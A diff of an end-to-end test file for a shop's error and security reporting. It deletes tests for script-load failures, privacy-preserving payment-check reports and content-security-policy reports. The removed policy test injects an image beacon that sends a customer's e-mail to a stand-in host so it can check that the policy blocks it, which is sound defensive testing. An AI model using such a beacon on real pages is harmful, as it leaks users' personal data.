@@ -5,7 +5,7 @@ import { plantedIn } from '../../fixtures/personal.ts';
 import { copyProject } from '../../fixtures/project-copy.ts';
 import { settled } from '../../journeys/support/hydrated.ts';
 import { test as base, expect, serveProject } from '../../journeys/support/journey.ts';
-import { again, lose } from '../../journeys/support/lost-scripts.ts';
+import { lose } from '../../journeys/support/lost-scripts.ts';
 import { goAndPay, guest, openForm } from '../../journeys/support/rider.ts';
 import type { SandboxRemote } from '../../journeys/support/sandbox-remote.ts';
 
@@ -76,20 +76,6 @@ test('an error that nobody caught, with the name and the e-mail of the rider in 
   ]);
 });
 
-test('the script of a page never comes → its file, once, on the page that asked for it', async ({
-  page,
-  sandbox,
-}) => {
-  await page.goto('/');
-  await settled(page);
-  await lose(page, 'AboutPage');
-  await page.getByRole('banner').getByRole('link', { name: 'About', exact: true }).click();
-  await expect(page.getByRole('button', again)).toBeVisible();
-  expect(await reportsOf(sandbox, 'script')).toMatchObject([
-    { file: expect.stringMatching(/^AboutPage-[\w-]{8}\.js$/), route: paths.about },
-  ]);
-});
-
 test('the site’s own script never comes → it is reported all the same', async ({
   page,
   sandbox,
@@ -99,43 +85,6 @@ test('the site’s own script never comes → it is reported all the same', asyn
   await expect(page.getByRole('alert')).toContainText('did not load completely');
   expect(await reportsOf(sandbox, 'script')).toMatchObject([
     { file: expect.stringMatching(/^main-[\w-]{8}\.js$/), route: '/' },
-  ]);
-});
-
-test('a check of a payment that fails → its kind alone, neither the transaction nor the server’s words', async ({
-  page,
-  sandbox,
-}) => {
-  await goAndPay(page, 'coorg-coffee');
-  const { id } = await sandbox.order();
-  await sandbox.fault('payment-status', {
-    status: 503,
-    body: JSON.stringify({ message: `${guest.name} is not known` }),
-    contentType: 'application/json',
-  });
-  await page.getByRole('button', { name: /^Pay ₹/ }).click();
-  await expect(page).toHaveURL(new RegExp(paths.paymentResult));
-  const reports = await reportsOf(sandbox, 'payment-check');
-  expect(reports).toEqual([
-    {
-      version: 1,
-      kind: 'payment-check',
-      route: paths.paymentResult,
-      build: expect.any(String),
-      failure: 'http',
-    },
-  ]);
-  expect(plantedIn(JSON.stringify(await sandbox.reports()), [id])).toEqual([]);
-});
-
-test('what the policy keeps out → its directive and no address', async ({ page, sandbox }) => {
-  await page.goto(paths.about);
-  await settled(page);
-  await page.evaluate((mail) => {
-    new Image().src = `http://blocked.invalid/?mail=${mail}`;
-  }, guest.email);
-  expect(await reportsOf(sandbox, 'policy')).toMatchObject([
-    { directive: 'img-src', blocked: 'http', frame: '', route: paths.about },
   ]);
 });
 
